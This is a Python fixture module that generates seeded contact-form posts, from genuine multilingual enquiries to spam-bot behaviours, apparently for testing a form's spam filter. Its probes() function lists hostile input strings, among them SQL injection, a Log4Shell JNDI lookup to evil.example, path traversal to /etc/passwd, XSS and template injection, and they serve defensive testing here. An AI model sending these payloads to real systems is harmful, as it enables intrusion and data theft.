"""What people and scripts post to the form, made from fixed seeds."""

from random import Random

OURS = {"Sec-Fetch-Site": "same-origin"}
OLD_BROWSER = {"Origin": "https://www.example.com"}
ANSWERS = {
    "name": "Maria Keller",
    "email": "maria@example.org",
    "organisation": "Keller Werke",
    "role": "COO",
    "message": "Decisions take weeks.\nNobody owns them.",
}

PEOPLE = [
    "Maria Keller",
    "anna",
    "Seán O’Brien",
    "Jüri Põld",
    "DAVID MACDONALD",
    "Nguyễn Thị Hà",
    "محمد علي",
    "山田 太郎",
    "Ольга Иванова",
    "J. R. McAllister-Smythe III",
    "Chloë van den Berg",
    "Krzysztof Brzęczyszczykiewicz",
]
ORGANISATIONS = [
    "",
    "Keller Werke GmbH",
    "www.keller-werke.example",
    "keller.example",
    "AB",
    "University Hospital Trust",
    "IKEA/INGKA",
    "FinTech4U",
    "Acme (UK) Ltd.",
]
ROLES = ["", "COO", "Head of Product", "VP R&D", "Geschäftsführer", "CTO / co-founder", "pm"]
OPENINGS = [
    "",
    "Hi,\n\n",
    "Hello there! ",
    "Dear team,\n",
    "Guten Tag,\n\n",
    "I read your piece on decision rights. ",
    "A colleague sent me your case study (https://www.example.com/case-studies/one/). ",
]
SITUATIONS = [
    "Decisions that took days now take six weeks, and nobody can say who owns them.",
    "We grew from 40 to 180 people in a year and three product managers left.",
    "Our two sites, Tallinn and Lisbon, blame each other for every late release.",
    "wir haben acht Teams und keine gemeinsame Roadmap, jedes Quartal dieselbe Diskussion",
    "Every roadmap meeting ends with sales overruling it!!! It is EXHAUSTING.",
    "Nous avons une feuille de route, mais personne n'y croit plus.",
    "Meil on kolm tootejuhti ja mitte keegi ei otsusta.",
    "Discovery finds things, delivery ignores them. Rinse & repeat :-)",
    "The board wants 20% more throughput; engineering says it is at 110% capacity.",
    "We sell software to online casinos and our compliance team blocks each release.",
    "Our SEO team, our app team and our platform team each have their own backlog.",
    "У нас пять команд, и ни одна не отвечает за результат.",
    "プロダクトの優先順位が毎週変わります。",
    "I inherited a PostgreSQL/iOS/JavaScript monolith and a team that will not touch it.",
    "OKRs: 14 of them. P&L owners: 0.",
]
REQUESTS = [
    "",
    " Could we talk next week?",
    " Please call me on +44 20 7946 0123.",
    "\n\nWhat would a first conversation look like, and what does it cost?",
    " Our site is https://keller-werke.example if you want to know more.",
    "\n- who decides?\n- how fast?\n- what do we stop?",
    " Mornings are best.",
    " My assistant is j.doe@keller.example.",
]
SIGNATURES = [
    "",
    "\n\nMaria",
    "\n\nBest regards,\nMaria Keller\nCOO, Keller Werke",
    " Danke!",
    "\n--\nSent from my phone",
]

PITCHES = [
    "We can get your site on the first page of Google. Affordable SEO packages.",
    "I would like to write a guest post for you with two dofollow backlinks.",
    "Get verified leads and a targeted email list of 10 million companies.",
    "Best online casino with bitcoin bonus, play slots now",
    "I am the next of kin of a late client, 8 million USD inheritance",
    "Лучшее казино и ставки на спорт",
]


def people(number, seed=1):
    """Posts as people send them: (fields, headers, address), a network of its own for each three.

    No script runs in their browsers; a tenth of those send no fetch metadata.
    """
    random = Random(seed)
    for index in range(number):
        message = "".join(
            random.choice(part) for part in (OPENINGS, SITUATIONS, REQUESTS, SIGNATURES)
        )
        yield (
            {
                "name": random.choice(PEOPLE),
                "email": f"person{index}@{random.choice(['example.org', 'bücher.example'])}",
                "organisation": random.choice(ORGANISATIONS),
                "role": random.choice(ROLES),
                "message": message,
                "fold": "",
            },
            OLD_BROWSER if random.random() < 0.1 else OURS,
            network(index // 3),
        )


def network(index):
    return f"10.{index // 256}.{index % 256}.7"


def scripts(number, seed=1):
    """Posts as scripts send them: every kind in turn, (fields, headers, address).

    Each gives itself away by its form; advertising that is written like a letter is in PITCHES.
    """
    random = Random(seed)
    for index in range(number):
        kind = KINDS[index % len(KINDS)]
        fields = ANSWERS | {
            "name": random.choice(PEOPLE),
            "email": f"robot{index}@example.net",
            "message": f"{random.choice(SITUATIONS)} {index}",
            "fold": "",
        }
        changes, headers, address = kind(random)
        yield fields | changes, headers, address or network(index)


def fills_in_everything(random):
    return {"fold": random.choice(["1", "https://spam.example", "John", "on"])}, OURS, None


def sends_no_headers(random):
    return {}, {}, None


def posts_across_sites(random):
    return {}, {"Sec-Fetch-Site": "cross-site", "Origin": "https://spam.example"}, None


def forges_an_origin(random):
    return {}, {"Origin": random.choice(["null", "http://www.example.com", "https://a.test"])}, None


def floods(random):
    return {}, OURS, f"198.51.100.{random.randrange(1, 255)}"


def posts_links(random):
    links = " ".join(f"https://shop{random.randrange(999)}.example/buy" for _ in range(4))
    return {"message": f"Best prices here: {links}"}, OURS, None


def posts_markup(random):
    message = random.choice(
        [
            "Great site! [url=https://spam.example]click[/url]",
            'Visit <a href="https://spam.example">us</a> today',
            "[link=https://spam.example]deal[/link]",
        ]
    )
    return {"message": message}, OURS, None


def shortens(random):
    code = letters(random, 6)
    return {"message": f"Hot offer for you https://bit.ly/{code} reply soon"}, OURS, None


def writes_gibberish(random):
    message = " ".join(letters(random, random.randrange(6, 14)) for _ in range(8))
    return {"name": letters(random, 10), "message": message}, OURS, None


def writes_random_capitals(random):
    def word():
        return "".join(
            random.choice([str.upper, str.lower])(letter) for letter in letters(random, 16)
        )

    return {"name": word(), "role": word(), "message": word()}, OURS, None


def leaves_placeholders(random):
    message = random.choice(
        [
            "Hi {first_name}, I saw {{company}} and was impressed.",
            "{Hello|Hi|Hey} there, {great|nice} website!",
            "Dear %FIRSTNAME%, we help companies like yours.",
            "Hello [First Name], quick question.",
        ]
    )
    return {"message": message}, OURS, None


def probes(random):
    attack = random.choice(
        [
            "' OR '1'='1",
            "1 UNION SELECT password FROM users",
            "${jndi:ldap://evil.example/a}",
            "../../../../etc/passwd",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "'; WAITFOR DELAY '0:0:5'--",
        ]
    )
    return {random.choice(["name", "organisation", "message"]): attack}, OURS, None


def disguises(random):
    message = random.choice(
        ["Best саsino and pоker bonus", "Cheap viаgra, fast dеlivery", "Frее mоnеy"]
    )
    return {"message": message}, OURS, None


def repeats(random):
    text = letters(random, 8)
    return dict.fromkeys(("name", "organisation", "role", "message"), text), OURS, None


def puts_links_into_names(random):
    return {"name": f"https://spam{random.randrange(99)}.example free gift"}, OURS, None


def letters(random, length):
    return "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(length))


KINDS = [
    fills_in_everything,
    sends_no_headers,
    posts_across_sites,
    forges_an_origin,
    floods,
    posts_links,
    posts_markup,
    shortens,
    writes_gibberish,
    writes_random_capitals,
    leaves_placeholders,
    probes,
    disguises,
    repeats,
    puts_links_into_names,
]
